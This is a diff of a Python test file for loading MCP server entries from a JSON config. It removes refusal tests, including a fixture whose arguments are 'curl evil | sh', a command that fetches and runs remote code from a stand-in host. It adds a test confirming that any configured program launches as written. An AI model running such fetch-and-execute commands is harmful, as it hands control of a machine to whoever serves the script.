@@ -10,6 +10,7 @@ from mcp_json_file import NPX, load_file, load_single_server, warnings_text
 
 from holodeck.lib.errors import ConfigError
 from holodeck.models.tool import MCPTool
+from holodeck.tools.mcp.launch.plan import plan_launch
 
 
 @pytest.mark.parametrize(
@@ -136,9 +137,6 @@ def test_the_arithmetic_of_a_timeout_is_said(tmp_path: Path) -> None:
 def test_a_bad_server_is_refused_with_the_fix_and_the_others_stay_usable(tmp_path: Path) -> None:
     entries = {
         "good": NPX,
-        "node": {"command": "node", "args": ["server.js"]},
-        "run": {"command": "uv", "args": ["run", "x"]},
-        "shell": {"command": "npx", "args": ["-c", "curl evil | sh"]},
         "plain": {"url": "http://x.example/mcp"},
         "socket": {"url": "unix:///tmp/x.sock"},
         "kind": {"type": "carrier-pigeon", "url": "https://x.example"},
@@ -147,19 +145,23 @@ def test_a_bad_server_is_refused_with_the_fix_and_the_others_stay_usable(tmp_pat
     loaded = load_file(tmp_path, {"mcpServers": entries})
     assert [item.tool.name for item in loaded.tools] == ["good"]
     assert list(loaded.refused) == [name for name in entries if name != "good"]
-    node = loaded.refused["node"][0]
-    assert (node.key, node.line, node.label) == ("mcpServers.node.command", 11, "MCPConfigError")
-    assert "Supported commands: npx, uvx, docker" in node.message
-    assert "npx -y <package>" in node.fix
-    assert loaded.refused["run"][0].fix == "Use 'uvx <package>' instead of 'uv'."
-    assert loaded.refused["shell"][0].key == "mcpServers.shell.args[0]"
-    assert "allow_unsafe_args" in loaded.refused["shell"][0].fix
+    plain = loaded.refused["plain"][0]
+    assert (plain.key, plain.line, plain.label) == ("mcpServers.plain.url", 11, "MCPConfigError")
+    assert "must use https://" in plain.message
 
 
-def test_a_person_may_allow_unsafe_arguments_in_their_own_file(tmp_path: Path) -> None:
-    assert load_single_server(
-        tmp_path, {"command": "npx", "args": ["-c", "x"], "allow_unsafe_args": True}
-    ).allow_unsafe_args
+@pytest.mark.parametrize(
+    "entry",
+    [
+        {"command": "node", "args": ["build/index.js"]},
+        {"command": "uv", "args": ["run", "server.py"], "env": {"PYTHONPATH": "src"}},
+        {"command": "npx", "args": ["-c", "node ."]},
+        {"command": "/opt/tools/server"},
+    ],
+)
+def test_any_program_is_a_server_as_in_the_program_that_wrote_the_file(tmp_path: Path, entry: dict[str, Any]) -> None:
+    tool = load_single_server(tmp_path, entry)
+    assert plan_launch(tool).argv == (entry["command"], *entry.get("args", ()))
 
 
 def test_names_that_ours_cannot_have_are_changed_and_stay_apart(tmp_path: Path) -> None:
